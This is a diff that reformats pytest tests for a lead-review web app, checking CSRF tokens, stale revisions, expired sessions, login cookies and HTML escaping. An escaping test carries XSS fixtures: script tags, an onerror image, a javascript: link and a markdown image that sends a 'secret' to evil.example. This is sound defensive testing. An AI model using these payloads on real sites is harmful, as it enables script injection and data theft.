@@ -14,22 +14,32 @@ from api.runtime import Runtime
 from api.users.models import SessionRow
 from tests.api.review.conftest import People, audit_count, browser, card, form_token, new_lead, status
 
-XSS_NOTES = ("Budget approved. <script>window.pwned=1</script> ![chart](https://evil.example/leak.png?d=secret) "
-             '<img src="https://evil.example/x.png" onerror="window.pwned=2"> [click](javascript:alert(1))')
+XSS_NOTES = (
+    "Budget approved. <script>window.pwned=1</script> ![chart](https://evil.example/leak.png?d=secret) "
+    '<img src="https://evil.example/x.png" onerror="window.pwned=2"> [click](javascript:alert(1))'
+)
 
 
 def _confirm_form(html: str) -> dict[str, str]:
-    data = {"csrf": form_token(html, "confirm"), "revision": re.search(r'name="revision" value="(\d+)"', html).group(1),  # type: ignore[union-attr]
-            "qualified_at": "2026-11-20T10:00", "discovery_notes": "Pains confirmed", "next_step": "Demo",
-            "next_step_date": "2026-12-01", "opportunity_value": "30000", "currency": "USD"}
+    data = {
+        "csrf": form_token(html, "confirm"),
+        "revision": re.search(r'name="revision" value="(\d+)"', html).group(1),  # type: ignore[union-attr]
+        "qualified_at": "2026-11-20T10:00",
+        "discovery_notes": "Pains confirmed",
+        "next_step": "Demo",
+        "next_step_date": "2026-12-01",
+        "opportunity_value": "30000",
+        "currency": "USD",
+    }
     for qid in re.findall(r'name="(check__[^"]+)"', html):
         data[qid] = "unknown"
         data[qid.replace("check__", "verified__")] = "1"  # the rep verified each item on the call
     return data
 
 
-def test_login_queue_scorecard_confirm_and_accept_through_forms(app: FastAPI, api: TestClient, runtime: Runtime,
-                                                                people: People) -> None:
+def test_login_queue_scorecard_confirm_and_accept_through_forms(
+    app: FastAPI, api: TestClient, runtime: Runtime, people: People
+) -> None:
     lead_id = new_lead(api, runtime, people, ae="ae")
     sdr = browser(app, people, "sdr")
     q = sdr.get("/ui/queue")
@@ -38,8 +48,13 @@ def test_login_queue_scorecard_confirm_and_accept_through_forms(app: FastAPI, ap
     page = sdr.get(f"/ui/leads/{lead_id}")
     assert page.status_code == 200 and "<mark>" in page.text and "Audit history" in page.text
     sc = card(api, people, lead_id)
-    edit = {"csrf": form_token(page.text, "edit"), "revision": str(sc["revision"]),
-            "question_id": sc["answers"][0]["question_id"], "answer": "unknown", "note": "Not discussed yet"}
+    edit = {
+        "csrf": form_token(page.text, "edit"),
+        "revision": str(sc["revision"]),
+        "question_id": sc["answers"][0]["question_id"],
+        "answer": "unknown",
+        "note": "Not discussed yet",
+    }
     r = sdr.post(f"/ui/leads/{lead_id}/edit", data=edit)
     assert r.status_code == 303 and status(runtime, lead_id) == "in_review"
     replay = sdr.post(f"/ui/leads/{lead_id}/edit", data=edit)  # the same form sent twice
@@ -52,37 +67,53 @@ def test_login_queue_scorecard_confirm_and_accept_through_forms(app: FastAPI, ap
     assert f"/ui/leads/{lead_id}" in ae.get("/ui/queue").text
     page = ae.get(f"/ui/leads/{lead_id}")
     assert "Accept into pipeline" in page.text and "Pains confirmed" in page.text
-    stale = ae.post(f"/ui/leads/{lead_id}/accept", data={"csrf": form_token(page.text, "accept"),
-                                                         "revision": str(sc["revision"]), "note": ""})
+    stale = ae.post(
+        f"/ui/leads/{lead_id}/accept",
+        data={"csrf": form_token(page.text, "accept"), "revision": str(sc["revision"]), "note": ""},
+    )
     assert stale.status_code == 409  # the edit made a newer revision: accept binds to it
     page = ae.get(f"/ui/leads/{lead_id}")
-    r = ae.post(f"/ui/leads/{lead_id}/accept", data={"csrf": form_token(page.text, "accept"),
-                                                     "revision": str(card(api, people, lead_id)["revision"]), "note": ""})
+    r = ae.post(
+        f"/ui/leads/{lead_id}/accept",
+        data={
+            "csrf": form_token(page.text, "accept"),
+            "revision": str(card(api, people, lead_id)["revision"]),
+            "note": "",
+        },
+    )
     assert r.status_code == 303 and status(runtime, lead_id) == "ae_accepted"
     history = ae.get(f"/ui/leads/{lead_id}").text
     assert all(x in history for x in ("confirm", "accept", people.emails["sdr"], people.emails["ae"]))
 
 
-def test_a_token_from_another_form_or_lead_is_refused(app: FastAPI, api: TestClient, runtime: Runtime,
-                                                      people: People) -> None:
+def test_a_token_from_another_form_or_lead_is_refused(
+    app: FastAPI, api: TestClient, runtime: Runtime, people: People
+) -> None:
     one, two = new_lead(api, runtime, people), new_lead(api, runtime, people)
     sdr = browser(app, people, "sdr")
     html = sdr.get(f"/ui/leads/{one}").text
-    wrong_lead = sdr.post(f"/ui/leads/{two}/reject", data={"csrf": form_token(html, "reject"), "revision": "1",
-                                                           "reason": "no_need"})
-    wrong_form = sdr.post(f"/ui/leads/{one}/reject", data={"csrf": form_token(html, "edit"), "revision": "1",
-                                                           "reason": "no_need"})
+    wrong_lead = sdr.post(
+        f"/ui/leads/{two}/reject", data={"csrf": form_token(html, "reject"), "revision": "1", "reason": "no_need"}
+    )
+    wrong_form = sdr.post(
+        f"/ui/leads/{one}/reject", data={"csrf": form_token(html, "edit"), "revision": "1", "reason": "no_need"}
+    )
     missing = sdr.post(f"/ui/leads/{one}/reject", data={"revision": "1", "reason": "no_need"})
     assert wrong_lead.status_code == wrong_form.status_code == missing.status_code == 403
     assert status(runtime, one) == status(runtime, two) == "in_review" and audit_count(runtime, one) == 0
 
 
-def test_form_errors_are_shown_and_nothing_changes(app: FastAPI, api: TestClient, runtime: Runtime,
-                                                   people: People) -> None:
+def test_form_errors_are_shown_and_nothing_changes(
+    app: FastAPI, api: TestClient, runtime: Runtime, people: People
+) -> None:
     lead_id = new_lead(api, runtime, people)
     sdr = browser(app, people, "sdr")
-    for data, code in (({"reason": "other", "note": ""}, 422), ({"reason": "bogus"}, 422),
-                       ({"reason": "no_need", "note": "y" * 1_000_000}, 422), ({"reason": "no_need", "revision": "7"}, 409)):
+    for data, code in (
+        ({"reason": "other", "note": ""}, 422),
+        ({"reason": "bogus"}, 422),
+        ({"reason": "no_need", "note": "y" * 1_000_000}, 422),
+        ({"reason": "no_need", "revision": "7"}, 409),
+    ):
         html = sdr.get(f"/ui/leads/{lead_id}").text
         r = sdr.post(f"/ui/leads/{lead_id}/reject", data={"csrf": form_token(html, "reject"), "revision": "1", **data})
         assert r.status_code == code and 'role="alert"' in r.text
@@ -92,15 +123,17 @@ def test_form_errors_are_shown_and_nothing_changes(app: FastAPI, api: TestClient
     assert status(runtime, lead_id) == "in_review" and audit_count(runtime, lead_id) == 0
 
 
-def test_an_expired_session_is_refused_and_changes_nothing(app: FastAPI, api: TestClient, runtime: Runtime,
-                                                           people: People) -> None:
+def test_an_expired_session_is_refused_and_changes_nothing(
+    app: FastAPI, api: TestClient, runtime: Runtime, people: People
+) -> None:
     lead_id = new_lead(api, runtime, people)
     sdr = browser(app, people, "sdr")
     html = sdr.get(f"/ui/leads/{lead_id}").text
     with transaction(runtime.sessions) as s:
         s.execute(update(SessionRow).values(expires_at=runtime.deps.clock() - timedelta(minutes=1)))
-    r = sdr.post(f"/ui/leads/{lead_id}/reject", data={"csrf": form_token(html, "reject"), "revision": "1",
-                                                      "reason": "no_need"})
+    r = sdr.post(
+        f"/ui/leads/{lead_id}/reject", data={"csrf": form_token(html, "reject"), "revision": "1", "reason": "no_need"}
+    )
     assert r.status_code == 401 and status(runtime, lead_id) == "in_review" and audit_count(runtime, lead_id) == 0
     again = sdr.get("/ui/queue")
     assert again.status_code == 303 and again.headers["location"].startswith("/ui/login")
@@ -114,7 +147,8 @@ def test_login_needs_the_right_password_and_its_form_token(app: FastAPI, people:
     bad = c.post("/ui/login", data={"csrf": token, "email": people.emails["sdr"], "password": "wrong password!"})
     assert bad.status_code == 401
     forged = TestClient(app, follow_redirects=False).post(
-        "/ui/login", data={"csrf": token, "email": people.emails["sdr"], "password": "correct horse battery"})
+        "/ui/login", data={"csrf": token, "email": people.emails["sdr"], "password": "correct horse battery"}
+    )
     assert forged.status_code == 403  # a token without its login cookie (cross-site login) is refused
     r = TestClient(app, follow_redirects=False)
     page = r.get("/ui/login")
@@ -124,10 +158,16 @@ def test_login_needs_the_right_password_and_its_form_token(app: FastAPI, people:
     assert "httponly" in flags and "samesite=lax" in flags and "qualify_session=" in flags
 
 
-def test_lead_text_is_escaped_and_nothing_can_load_or_run(app: FastAPI, api: TestClient, runtime: Runtime,
-                                                          people: People) -> None:
-    lead_id = new_lead(api, runtime, people, notes=XSS_NOTES,
-                       form_answers={"<b>Budget?</b>": "<script>alert('form')</script> $60k approved"})
+def test_lead_text_is_escaped_and_nothing_can_load_or_run(
+    app: FastAPI, api: TestClient, runtime: Runtime, people: People
+) -> None:
+    lead_id = new_lead(
+        api,
+        runtime,
+        people,
+        notes=XSS_NOTES,
+        form_answers={"<b>Budget?</b>": "<script>alert('form')</script> $60k approved"},
+    )
     html = browser(app, people, "sdr").get(f"/ui/leads/{lead_id}")
     text = html.text
     assert "<script>window.pwned" not in text and "&lt;script&gt;window.pwned=1&lt;/script&gt;" in text
